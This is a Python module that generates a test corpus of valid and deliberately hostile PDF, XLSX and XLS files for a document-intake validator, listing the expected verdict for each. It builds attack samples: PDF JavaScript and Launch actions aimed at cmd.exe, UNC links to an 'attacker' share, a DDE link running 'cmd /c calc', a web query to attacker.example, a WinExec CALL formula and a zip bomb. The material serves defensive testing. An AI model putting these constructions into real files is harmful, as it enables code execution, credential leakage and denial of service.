"""A corpus of valid and hostile files for the intake pipeline, generated into a folder.

    python -m eservices.intake.tests.corpus /tmp/corpus      # writes every file and prints the expectations

Each :class:`Case` names a file, how to make it, the policy it is sent under and the expected verdict:
``None`` for accepted, else the refusal code. Producers of valid files: fpdf2, pikepdf, a hand-written
streaming PDF writer (any size, constant memory), openpyxl, a zipfile-built minimal XLSX, and a minimal OLE
(compound file) writer below for XLS, since no maintained library on PyPI writes BIFF8 files.
"""

import hashlib
import io
import os
import stat
import struct
import sys
import zipfile
import zlib
from dataclasses import dataclass
from pathlib import Path

import openpyxl
import pikepdf
from fpdf import FPDF
from pikepdf import Array, Dictionary, Name, String

EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
TEST_SIGNATURE = b"SECM-INTAKE-TEST-SIGNATURE-7f3a9c"


def clamav_signatures(directory):
    """A local signature database for clamd: EICAR (whole file, and anywhere) and the project's test signature."""
    directory = Path(directory)
    directory.mkdir(parents=True, exist_ok=True)
    (directory / "secm-test.hdb").write_text(f"{hashlib.md5(EICAR).hexdigest()}:{len(EICAR)}:SECM.Test.EICAR\n")  # noqa: S324 - ClamAV's hash format
    (directory / "secm-test.ndb").write_text(
        f"SECM.Test.EICAR.Embedded:0:*:{EICAR.hex()}\nSECM.Test.Signature:0:*:{TEST_SIGNATURE.hex()}\n"
    )
    return directory


# ---- PDF producers ----------------------------------------------------------------------------------------


def fpdf_pdf(pages=1, text="Rapport d'enquête — SECM"):
    pdf = FPDF()
    pdf.set_font("helvetica", size=12)
    for number in range(pages):
        pdf.add_page()
        pdf.cell(text=f"{text.encode('latin-1', 'replace').decode('latin-1')} - page {number + 1}")
    return bytes(pdf.output())


def pikepdf_pdf(pages=1, configure=None, **save):
    pdf = pikepdf.new()
    for _ in range(pages):
        pdf.add_blank_page()
    if configure:
        configure(pdf)
    buffer = io.BytesIO()
    pdf.save(buffer, **save)
    return buffer.getvalue()


def write_large_pdf(path, size, *, chunk=1024 * 1024):
    """A valid one-page PDF of about ``size`` bytes (an incompressible image stream), written in constant memory."""
    offsets = []
    with open(path, "wb") as out:

        def obj(body):
            offsets.append(out.tell())
            out.write(f"{len(offsets)} 0 obj\n".encode() + body + b"\nendobj\n")

        out.write(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
        obj(b"<< /Type /Catalog /Pages 2 0 R >>")
        obj(b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>")
        obj(b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /XObject << /Im1 4 0 R >> >> >>")
        length = max(size - 1024, 1)
        width = 1024
        height = max(length // (width * 3), 1)
        length = width * height * 3
        offsets.append(out.tell())
        out.write(
            f"4 0 obj\n<< /Type /XObject /Subtype /Image /Width {width} /Height {height} /ColorSpace /DeviceRGB "
            f"/BitsPerComponent 8 /Length {length} >>\nstream\n".encode()
        )
        left = length
        while left:
            part = os.urandom(min(chunk, left))
            out.write(part)
            left -= len(part)
        out.write(b"\nendstream\nendobj\n")
        xref = out.tell()
        out.write(f"xref\n0 {len(offsets) + 1}\n0000000000 65535 f \n".encode())
        for offset in offsets:
            out.write(f"{offset:010d} 00000 n \n".encode())
        out.write(f"trailer\n<< /Size {len(offsets) + 1} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n".encode())
    return path


def _javascript_names(pdf):
    action = pdf.make_indirect(Dictionary(S=Name.JavaScript, JS=String("app.alert('x')")))
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("init"), action])))


def _open_action_js(pdf):
    pdf.Root.OpenAction = Dictionary(S=Name.JavaScript, JS=String("this.exportDataObject({cName: 'x'})"))


def _launch(pdf):
    pdf.Root.OpenAction = Dictionary(S=Name.Launch, F=String("cmd.exe"), Win=Dictionary(F=String("cmd.exe")))


def _annotation_js(pdf):
    action = Dictionary(S=Name.JavaScript, JS=String("app.launchURL('x')"))
    annotation = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 10, 10]), A=action)
    pdf.pages[0].Annots = pdf.make_indirect(Array([pdf.make_indirect(annotation)]))


def _embedded_file(pdf):
    pdf.attachments["payload.exe"] = pikepdf.AttachedFileSpec(pdf, b"MZ not really", mime_type="text/plain")


def _xfa(pdf):
    pdf.Root.AcroForm = Dictionary(Fields=Array(), XFA=pdf.make_stream(b"<xdp:xdp xmlns:xdp='x'/>"))


def _pdf_with_bytes_inside(payload):
    """A valid PDF whose page content is an uncompressed comment holding ``payload`` (scanners see it raw)."""

    def configure(pdf):
        pdf.pages[0].Contents = pdf.make_stream(b"% " + payload + b"\n")

    return pikepdf_pdf(configure=configure, compress_streams=False)


def write_many_objects_pdf(path, objects, *, per_stream=1000):
    """A valid one-page PDF with ``objects`` tiny objects (``[n]``) packed in compressed object streams and an
    xref stream: a few bytes per object on disk, a lot of work and memory for a parser that walks them all."""
    entries = {}  # object number -> xref stream row (type, field 2, field 3)
    with open(path, "wb") as out:

        def direct(number, body):
            entries[number] = (1, out.tell(), 0)
            out.write(b"%d 0 obj\n" % number + body + b"\nendobj\n")

        out.write(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
        direct(1, b"<< /Type /Catalog /Pages 2 0 R >>")
        direct(2, b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>")
        direct(3, b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>")
        first_stream = 4 + objects
        for index, start in enumerate(range(4, 4 + objects, per_stream)):
            numbers = range(start, min(start + per_stream, 4 + objects))
            bodies = [b"[%d]" % number for number in numbers]
            offsets, position = [], 0
            for number, body in zip(numbers, bodies, strict=True):
                offsets.append(b"%d %d" % (number, position))
                position += len(body) + 1
            header = b" ".join(offsets) + b"\n"
            data = zlib.compress(header + b" ".join(bodies))
            for slot, number in enumerate(numbers):
                entries[number] = (2, first_stream + index, slot)
            direct(
                first_stream + index,
                b"<< /Type /ObjStm /N %d /First %d /Filter /FlateDecode /Length %d >>\nstream\n"
                % (len(numbers), len(header), len(data))
                + data
                + b"\nendstream",
            )
        xref = max(entries) + 1
        entries[xref] = (1, out.tell(), 0)
        rows = b"".join(struct.pack(">BIH", *entries.get(number, (0, 0, 65535))) for number in range(xref + 1))
        data = zlib.compress(rows)
        out.write(
            b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Root 1 0 R /Filter /FlateDecode /Length %d >>\nstream\n"
            % (xref, xref + 1, len(data))
            + data
            + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % entries[xref][1]
        )
    return path


def with_fake_trailer(pdf_bytes, payload):
    """``payload`` appended to a PDF, then a copy of its ``startxref``/``%%EOF``: readers still open the PDF."""
    start = pdf_bytes.rindex(b"startxref")
    return pdf_bytes + payload + b"\n" + pdf_bytes[start:]


def _action_on_link(action):
    """A link annotation on the first page whose /A is ``action``."""

    def configure(pdf):
        annotation = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 10, 10]), A=action)
        pdf.pages[0].Annots = pdf.make_indirect(Array([pdf.make_indirect(annotation)]))

    return configure


def _annotation(subtype, **entries):
    def configure(pdf):
        annotation = Dictionary(Type=Name.Annot, Subtype=Name(subtype), Rect=Array([0, 0, 10, 10]), **entries)
        pdf.pages[0].Annots = pdf.make_indirect(Array([pdf.make_indirect(annotation)]))

    return configure


def _uri(uri):
    return _action_on_link(Dictionary(S=Name.URI, URI=String(uri)))


def _open_action(action):
    def configure(pdf):
        pdf.Root.OpenAction = action

    return configure


def _page_aa(pdf):
    pdf.pages[0].AA = Dictionary(O=Dictionary(S=Name.Named, N=Name.NextPage))


def _catalog_aa(pdf):
    pdf.Root.AA = Dictionary(WC=Dictionary(S=Name.Named, N=Name.FirstPage))


def _field_aa(pdf):
    field = pdf.make_indirect(
        Dictionary(
            FT=Name.Tx,
            T=String("name"),
            Type=Name.Annot,
            Subtype=Name.Widget,
            Rect=Array([0, 0, 100, 20]),
            AA=Dictionary(K=Dictionary(S=Name.ResetForm)),
        )
    )
    pdf.pages[0].Annots = pdf.make_indirect(Array([field]))
    pdf.Root.AcroForm = Dictionary(Fields=Array([field]))


def _reset_button(pdf):
    button = pdf.make_indirect(
        Dictionary(
            FT=Name.Btn,
            Ff=65536,
            T=String("reset"),
            Type=Name.Annot,
            Subtype=Name.Widget,
            Rect=Array([0, 0, 100, 20]),
            A=Dictionary(S=Name.ResetForm),
        )
    )
    pdf.pages[0].Annots = pdf.make_indirect(Array([button]))
    pdf.Root.AcroForm = Dictionary(Fields=Array([button]))


def _three_d(pdf):
    stream = pdf.make_stream(b"U3D", Type=Name("/3D"), Subtype=Name.U3D)
    _annotation("/3D", **{"3DD": stream})(pdf)


# ---- XLSX producers ---------------------------------------------------------------------------------------


def openpyxl_xlsx(rows=10, text="Prestation"):
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.title = "Relevé"
    sheet.append(["Date", "Code", "Libellé", "Montant"])
    for row in range(rows):
        sheet.append([f"2026-01-{row % 28 + 1:02d}", 100000 + row, f"{text} {row}", row * 1.5])
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


MINIMAL_XLSX = {
    "[Content_Types].xml": '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>',  # noqa: E501
    "_rels/.rels": '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>',  # noqa: E501
    "xl/workbook.xml": '<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>',  # noqa: E501
    "xl/_rels/workbook.xml.rels": '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>',  # noqa: E501
    "xl/worksheets/sheet1.xml": '<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>SECM</t></is></c></row></sheetData></worksheet>',  # noqa: E501
}


def minimal_xlsx(members=None, infos=()):
    """A hand-built XLSX (zipfile): ``members`` replace or add parts (``None`` removes one); ``infos`` adds
    ``(ZipInfo, bytes)`` pairs as they are (odd names, symlinks)."""
    parts = {**MINIMAL_XLSX, **(members or {})}
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            if data is not None:
                archive.writestr(name, data)
        for info, data in infos:
            archive.writestr(info, data)
    return buffer.getvalue()


def rezip(xlsx_bytes, replace=None, add=None):
    """Copy an XLSX, replacing members (``name: bytes``) and adding others."""
    replace = replace or {}
    buffer = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(xlsx_bytes)) as source, zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as out:
        for info in source.infolist():
            data = replace.get(info.filename, source.read(info.filename))
            out.writestr(info.filename, data)
        for name, data in (add or {}).items():
            out.writestr(name, data)
    return buffer.getvalue()


def _macro_content_types(xml):
    return xml.replace(
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
        "application/vnd.ms-excel.sheet.macroEnabled.main+xml",
    )


def _sheet(cells="", after=""):
    """A worksheet part: ``cells`` inside the first row, ``after`` after the sheet data (hyperlinks, objects)."""
    return (
        '<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/'
        '2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheetData>'
        f'<row r="1">{cells}</row></sheetData>{after}</worksheet>'
    )


def _formula_xlsx(formula):
    return minimal_xlsx({"xl/worksheets/sheet1.xml": _sheet(f'<c r="A1"><f>{formula}</f></c>')})


RELATIONSHIPS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def _relationships(*items):
    rows = "".join(
        f'<Relationship Id="rId{n}" Type="{RELATIONSHIPS}/{kind}" Target="{target}"'
        + (' TargetMode="External"' if external else "")
        + "/>"
        for n, (kind, target, external) in enumerate(items, start=1)
    )
    return (
        '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
        f'relationships">{rows}</Relationships>'
    )


def _hyperlink_xlsx(target):
    return minimal_xlsx(
        {
            "xl/worksheets/sheet1.xml": _sheet(
                '<c r="A1" t="inlineStr"><is><t>lien</t></is></c>',
                '<hyperlinks><hyperlink ref="A1" r:id="rId1"/></hyperlinks>',
            ),
            "xl/worksheets/_rels/sheet1.xml.rels": _relationships(("hyperlink", target, True)),
        }
    )


def _workbook_with(relationship, part, data):
    """The minimal workbook with one more workbook relationship and its part."""
    return minimal_xlsx(
        {
            "xl/_rels/workbook.xml.rels": _relationships(("worksheet", "worksheets/sheet1.xml", False), relationship),
            part: data,
        }
    )


EXTERNAL_LINK = (
    '<?xml version="1.0" encoding="UTF-8"?><externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/'
    f'main"><externalBook xmlns:r="{RELATIONSHIPS}" r:id="rId1"><sheetNames><sheetName val="S"/></sheetNames>'
    "</externalBook></externalLink>"
)
DDE_LINK = (
    '<?xml version="1.0" encoding="UTF-8"?><externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/'
    'main"><ddeLink ddeService="cmd" ddeTopic="/c calc"><ddeItems><ddeItem name="A0" advise="1"/></ddeItems>'
    "</ddeLink></externalLink>"
)
CONNECTIONS = (
    '<?xml version="1.0" encoding="UTF-8"?><connections xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/'
    'main"><connection id="1" name="q" type="4" refreshOnLoad="1"><webPr url="http://attacker.example/q"/>'
    "</connection></connections>"
)
QUERY_TABLE = (
    '<?xml version="1.0" encoding="UTF-8"?><queryTable xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/'
    'main" name="q" connectionId="1"/>'
)
LINKED_OLE = _sheet(
    "",
    '<oleObjects><oleObject progId="Word.Document.12" link="[1]!\'\'" oleUpdate="OLEUPDATE_ALWAYS" shapeId="1025"/>'
    "</oleObjects>",
)


def benign_active_xlsx():
    """What a careful author does use: web and e-mail hyperlinks, ordinary formulas, a structured reference."""
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.append(["Montant", "Total", "Lien", "Courriel"])
    sheet.append([10, "=SUM(A2:A4)", "https://www.inami.fgov.be", "secm@example.be"])
    sheet.append([20, '=IF(A3>5,"grand","petit")', None, None])
    sheet.append([30, "=Table1[[#This Row],[Montant]]*2", None, None])
    sheet["C2"].hyperlink = "https://www.inami.fgov.be"
    sheet["D2"].hyperlink = "mailto:secm@example.be"
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def zip_bomb_xlsx(path, uncompressed=200 * 1024 * 1024):
    """A small XLSX whose one sheet inflates to ``uncompressed`` bytes of spaces (ratio about 1000:1)."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        for name, data in MINIMAL_XLSX.items():
            if name != "xl/worksheets/sheet1.xml":
                archive.writestr(name, data)
        with archive.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as member:
            block = b" " * (1024 * 1024)
            for _ in range(uncompressed // len(block)):
                member.write(block)
    return path


# ---- XLS: a minimal compound-file (OLE2) writer and a BIFF8 workbook ---------------------------------------

SECTOR = 512
FREE, END, FATSECT, NOSTREAM = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD, 0xFFFFFFFF


def _record(kind, body=b""):
    return struct.pack("<HH", kind, len(body)) + body


def biff8_workbook(sheet_type=0x00, password=False, globals_records=b"", sheet_records=b""):
    """A minimal BIFF8 workbook stream: globals (BOF, [FILEPASS], CODEPAGE, ``globals_records``, BOUNDSHEET, EOF)
    and one sheet (BOF, ``sheet_records``, EOF)."""
    globals_ = _record(0x0809, struct.pack("<HHHHII", 0x0600, 0x0005, 0x0DBB, 0x07CC, 0, 6))
    if password:
        globals_ += _record(0x002F, b"\x01\x00" + b"\x00" * 52)
    sheet_name = "Feuil1".encode("latin-1")
    globals_ += _record(0x0042, struct.pack("<H", 1252))  # CODEPAGE
    globals_ += globals_records
    boundsheet_length = 4 + 2 + 2 + len(sheet_name)
    sheet_offset = len(globals_) + 4 + boundsheet_length + 4  # after BOUNDSHEET and EOF
    globals_ += _record(0x0085, struct.pack("<IBBBB", sheet_offset, 0, sheet_type, len(sheet_name), 0) + sheet_name)
    globals_ += _record(0x000A)
    sheet = _record(0x0809, struct.pack("<HHHHII", 0x0600, 0x0010, 0x0DBB, 0x07CC, 0, 6))
    return globals_ + sheet + sheet_records + _record(0x000A)


def _biff_string(text):
    """An XLUnicodeString (16-bit count, compressed latin-1 characters)."""
    return struct.pack("<H", len(text)) + b"\x00" + text.encode("latin-1")


def _supbook(sheets, path):
    return _record(
        0x01AE, struct.pack("<H", sheets) + _biff_string(path) + b"".join(_biff_string("S") for _ in range(sheets))
    )


def _formula(rgce):
    """A FORMULA record in A1 holding the parsed formula ``rgce``."""
    return _record(0x0006, struct.pack("<HHH", 0, 0, 15) + b"\x00" * 8 + struct.pack("<HIH", 0, 0, len(rgce)) + rgce)


def _ptg_string(text):
    return b"\x17" + bytes([len(text), 0]) + text.encode("latin-1")


def _name(name, rgce=b""):
    return _record(
        0x0018, struct.pack("<HBBHHH", 0, 0, len(name), len(rgce), 0, 0) + b"\x00" * 4 + b"\x00" + name.encode() + rgce
    )


STD_HLINK = bytes.fromhex("d0c9ea79f9bace118c8200aa004ba90b")


def _hlink(moniker):
    """An HLINK record on A1: the standard hyperlink object with ``moniker`` (CLSID and data)."""
    return _record(0x01B8, struct.pack("<HHHH", 0, 0, 0, 0) + STD_HLINK + struct.pack("<II", 2, 0x03) + moniker)


def _url_moniker(url):
    data = (url + "\x00").encode("utf-16-le")
    url_moniker = bytes.fromhex("e0c9ea79f9bace118c8200aa004ba90b")  # pragma: allowlist secret (a CLSID)
    return url_moniker + struct.pack("<I", len(data)) + data


def _file_moniker(path):
    return (
        bytes.fromhex("0303000000000000c000000000000046")
        + struct.pack("<HI", 0, len(path) + 1)
        + path.encode()
        + b"\x00"
    )


SUM_A1_A3 = b"\x25" + struct.pack("<HHHH", 0, 2, 0, 0) + b"\x22\x01" + struct.pack("<H", 4)  # SUM(A1:A3)
CALL_WINEXEC = _ptg_string("kernel32") + _ptg_string("WinExec") + b"\x42\x02" + struct.pack("<H", 150)  # CALL(...)


def compound_file(tree):
    """An OLE2 compound file (version 3, 512-byte sectors) holding ``tree``: ``{name: bytes | {name: ...}}``.

    Streams are padded to 4096 bytes so that they live in regular sectors (no mini stream is needed).
    """
    entries = []

    def add(name, node, kind):
        index = len(entries)
        entry = {"name": name, "type": kind, "left": NOSTREAM, "right": NOSTREAM, "child": NOSTREAM, "data": b""}
        entries.append(entry)
        if isinstance(node, dict):
            ordered = sorted(node.items(), key=lambda item: (len(item[0]), item[0].upper()))
            children = [add(child, value, 1 if isinstance(value, dict) else 2) for child, value in ordered]
            for left, right in zip(children, children[1:], strict=False):
                entries[left]["right"] = right
            if children:
                entry["child"] = children[0]
        else:
            entry["data"] = node.ljust(4096, b"\x00")
        return index

    add("Root Entry", tree, 5)
    sectors = []
    fat = []
    for entry in entries:
        if entry["type"] != 2:
            entry["start"], entry["size"] = END, 0
            continue
        count = len(entry["data"]) // SECTOR + (1 if len(entry["data"]) % SECTOR else 0)
        entry["start"], entry["size"] = len(sectors), len(entry["data"])
        for number in range(count):
            sectors.append(entry["data"][number * SECTOR : (number + 1) * SECTOR].ljust(SECTOR, b"\x00"))
            fat.append(len(sectors) if number < count - 1 else END)
    directory = b""
    for entry in entries:
        name = entry["name"].encode("utf-16-le") + b"\x00\x00"
        directory += (
            name.ljust(64, b"\x00")
            + struct.pack("<HBB", len(name), entry["type"], 1)
            + struct.pack("<III", entry["left"], entry["right"], entry["child"])
            + b"\x00" * 16
            + b"\x00" * 4
            + b"\x00" * 16
            + struct.pack("<II", entry["start"], entry["size"])
            + b"\x00" * 4
        )
    empty = (
        b"\x00" * 64 + struct.pack("<HBB", 0, 0, 0) + struct.pack("<III", NOSTREAM, NOSTREAM, NOSTREAM) + b"\x00" * 44
    )
    while len(directory) % SECTOR:
        directory += empty
    first_directory = len(sectors)
    directory_sectors = len(directory) // SECTOR
    for number in range(directory_sectors):
        sectors.append(directory[number * SECTOR : (number + 1) * SECTOR])
        fat.append(len(sectors) if number < directory_sectors - 1 else END)
    fat_sectors = 1
    while (len(sectors) + fat_sectors) > fat_sectors * 128:
        fat_sectors += 1
    first_fat = len(sectors)
    fat += [FATSECT] * fat_sectors
    fat += [FREE] * (fat_sectors * 128 - len(fat))
    fat_bytes = struct.pack(f"<{len(fat)}I", *fat)
    for number in range(fat_sectors):
        sectors.append(fat_bytes[number * SECTOR : (number + 1) * SECTOR])
    difat = [first_fat + number for number in range(fat_sectors)] + [FREE] * (109 - fat_sectors)
    header = (
        bytes.fromhex("d0cf11e0a1b11ae1")
        + b"\x00" * 16
        + struct.pack("<HHHHH", 0x003E, 0x0003, 0xFFFE, 9, 6)
        + b"\x00" * 6
        + struct.pack("<IIIIIIIII", 0, fat_sectors, first_directory, 0, 4096, END, 0, END, 0)
        + struct.pack("<109I", *difat)
    )
    return header + b"".join(sectors)


def ole_xls(extra=None, **workbook):
    return compound_file({"Workbook": biff8_workbook(**workbook), **(extra or {})})


def _ole_object(flags):
    """An OLE object storage of an XLS (``MBD...``): its ``\\x01Ole`` stream says linked (1) or embedded (0)."""
    return {"MBD0001A2B3": {"\x01Ole": struct.pack("<IIII", 0x02000001, flags, 0, 0)}}


def ole_xls_with_vba():
    vba = {"dir": b"\x01" * 64, "_VBA_PROJECT": b"\xcc\x61" + b"\x00" * 5, "Module1": b"Attribute VB_Name"}
    return compound_file(
        {"Workbook": biff8_workbook(), "_VBA_PROJECT_CUR": {"PROJECT": b'ID="{0}"\r\nModule=Module1\r\n', "VBA": vba}}
    )


# ---- the corpus -------------------------------------------------------------------------------------------


@dataclass(frozen=True)
class Case:
    filename: str
    make: object  # () -> bytes, or (path) -> path for files written in place
    expect: str | None  # None: accepted; else the refusal code
    policy: str = "deposit"
    needs_clamd: bool = False
    streamed: bool = False  # make(path) writes the file itself


def _elf():
    return Path(sys.executable).resolve().read_bytes()[: 256 * 1024]


def _pe():
    dos = b"MZ\x90\x00" + b"\x00" * 56
    dos = dos[:60] + struct.pack("<I", 64)
    return dos + b"PE\x00\x00" + struct.pack("<HH", 0x14C, 1) + b"\x00" * 400


def _symlink_info():
    info = zipfile.ZipInfo("xl/media/link.xml")
    info.create_system = 3
    info.external_attr = (stat.S_IFLNK | 0o777) << 16
    return info


CASES = [
    # valid files, several producers and sizes
    Case("rapport-fpdf.pdf", lambda: fpdf_pdf(), None),
    Case("rapport-fpdf-60-pages.pdf", lambda: fpdf_pdf(pages=60), None),
    Case("blank-pikepdf.pdf", lambda: pikepdf_pdf(pages=2), None),
    Case(
        "objstreams-pikepdf.pdf",
        lambda: pikepdf_pdf(pages=3, object_stream_mode=pikepdf.ObjectStreamMode.generate),
        None,
    ),
    Case("scan-3mb.pdf", lambda path: write_large_pdf(path, 3 * 1024 * 1024), None, streamed=True),
    Case("Relevé des prestations.xlsx", lambda: openpyxl_xlsx(), None),
    Case("releve-20000-lignes.xlsx", lambda: openpyxl_xlsx(rows=20000), None),
    Case("minimal-zipfile.xlsx", lambda: minimal_xlsx(), None),
    Case("ancien-format.xls", lambda: ole_xls(), None),
    Case("supporting.pdf", lambda: fpdf_pdf(), None, policy="supporting_document"),
    Case("casefile.xls", lambda: ole_xls(), None, policy="casefile_document"),
    # the wrong type, or a type that lies
    Case("notes.docx", lambda: b"PK\x03\x04 not really", "type_not_accepted"),
    Case("programme.exe", _pe, "type_not_accepted"),
    Case("no-extension", lambda: fpdf_pdf(), "type_not_accepted"),
    Case("spreadsheet-as-supporting.xlsx", lambda: openpyxl_xlsx(), "type_not_accepted", policy="supporting_document"),
    Case("empty.pdf", lambda: b"", "empty"),
    Case(
        "page-web.pdf",
        lambda: b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>",
        "content_mismatch",
    ),
    Case("classeur.pdf", lambda: openpyxl_xlsx(), "content_mismatch"),
    Case("document.xlsx", lambda: fpdf_pdf(), "content_mismatch"),
    Case("ancien.xlsx", lambda: ole_xls(), "content_mismatch"),
    Case("texte.xls", lambda: b"Date;Montant\n2026-01-01;12\n", "content_mismatch"),
    Case("elf-binary.pdf", _elf, "executable"),
    Case("pe-binary.xlsx", _pe, "executable"),
    Case("eicar.pdf", lambda: EICAR, "content_mismatch"),
    # broken or protected PDFs
    Case("truncated.pdf", lambda: fpdf_pdf(pages=5)[:-600], "unreadable"),
    Case("header-only.pdf", lambda: b"%PDF-1.7\n%%EOF\n", "unreadable"),
    Case(
        "user-password.pdf",
        lambda: pikepdf_pdf(encryption=pikepdf.Encryption(user="secret", owner="owner")),
        "encrypted",
    ),
    Case("owner-password.pdf", lambda: pikepdf_pdf(encryption=pikepdf.Encryption(user="", owner="owner")), "encrypted"),
    Case("zero-pages.pdf", lambda: pikepdf_pdf(pages=0), "no_pages"),
    # resource exhaustion: more objects than INTAKE_PDF_MAX_OBJECTS (200,000), 1.8 MB on disk
    Case("many-objects.pdf", lambda path: write_many_objects_pdf(path, 210_000), "too_many_objects", streamed=True),
    # active or hidden PDF content
    Case("javascript-names.pdf", lambda: pikepdf_pdf(configure=_javascript_names), "active_content"),
    Case("openaction-js.pdf", lambda: pikepdf_pdf(configure=_open_action_js), "active_content"),
    Case(
        "openaction-js-objstream.pdf",
        lambda: pikepdf_pdf(configure=_open_action_js, object_stream_mode=pikepdf.ObjectStreamMode.generate),
        "active_content",
    ),
    Case("annotation-js.pdf", lambda: pikepdf_pdf(configure=_annotation_js), "active_content"),
    Case("launch.pdf", lambda: pikepdf_pdf(configure=_launch), "active_content"),
    Case("embedded-file.pdf", lambda: pikepdf_pdf(configure=_embedded_file), "embedded_files"),
    Case(
        "submitform.pdf",
        lambda: pikepdf_pdf(configure=_action_on_link(Dictionary(S=Name.SubmitForm, F=String("https://x.example")))),
        "form_actions",
    ),
    Case(
        "importdata.pdf",
        lambda: pikepdf_pdf(configure=_action_on_link(Dictionary(S=Name.ImportData, F=String("data.fdf")))),
        "form_actions",
    ),
    Case(
        "resetform-on-open.pdf",
        lambda: pikepdf_pdf(configure=_open_action(Dictionary(S=Name.ResetForm))),
        "form_actions",
    ),
    Case(
        "resetform-next-on-open.pdf",
        lambda: pikepdf_pdf(
            configure=_open_action(Dictionary(S=Name.Named, N=Name.FirstPage, Next=Dictionary(S=Name.ResetForm)))
        ),
        "form_actions",
    ),
    Case("resetform-button.pdf", lambda: pikepdf_pdf(configure=_reset_button), None),
    Case(
        "gotor-unc.pdf",
        lambda: pikepdf_pdf(
            configure=_action_on_link(Dictionary(S=Name.GoToR, F=String("\\\\attacker\\share\\x.pdf"), D=Array([0])))
        ),
        "unsafe_link",
    ),
    Case(
        "gotoe.pdf",
        lambda: pikepdf_pdf(configure=_action_on_link(Dictionary(S=Name.GoToE, F=String("other.pdf"), D=Array([0])))),
        "unsafe_link",
    ),
    Case("uri-file.pdf", lambda: pikepdf_pdf(configure=_uri("file:///C:/Windows/system32/calc.exe")), "unsafe_link"),
    Case("uri-unc.pdf", lambda: pikepdf_pdf(configure=_uri("\\\\attacker\\share")), "unsafe_link"),
    Case("uri-javascript.pdf", lambda: pikepdf_pdf(configure=_uri("javascript:alert(1)")), "unsafe_link"),
    Case("uri-https.pdf", lambda: pikepdf_pdf(configure=_uri("https://www.inami.fgov.be/fr")), None),
    Case("uri-mailto.pdf", lambda: pikepdf_pdf(configure=_uri("mailto:secm@example.be")), None),
    Case(
        "internal-goto.pdf",
        lambda: pikepdf_pdf(pages=2, configure=_action_on_link(Dictionary(S=Name.Named, N=Name.NextPage))),
        None,
    ),
    Case("aa-page.pdf", lambda: pikepdf_pdf(configure=_page_aa), "automatic_actions"),
    Case("aa-catalog.pdf", lambda: pikepdf_pdf(configure=_catalog_aa), "automatic_actions"),
    Case("aa-form-field.pdf", lambda: pikepdf_pdf(configure=_field_aa), "automatic_actions"),
    Case("richmedia.pdf", lambda: pikepdf_pdf(configure=_annotation("/RichMedia")), "multimedia"),
    Case("3d.pdf", lambda: pikepdf_pdf(configure=_three_d), "multimedia"),
    Case(
        "movie.pdf",
        lambda: pikepdf_pdf(configure=_annotation("/Movie", Movie=Dictionary(F=String("m.mov")))),
        "multimedia",
    ),
    Case("sound.pdf", lambda: pikepdf_pdf(configure=_annotation("/Sound", Sound=Dictionary())), "multimedia"),
    Case("xfa.pdf", lambda: pikepdf_pdf(configure=_xfa), "xfa_form"),
    # hostile spreadsheets
    Case(
        "macro.xlsx",
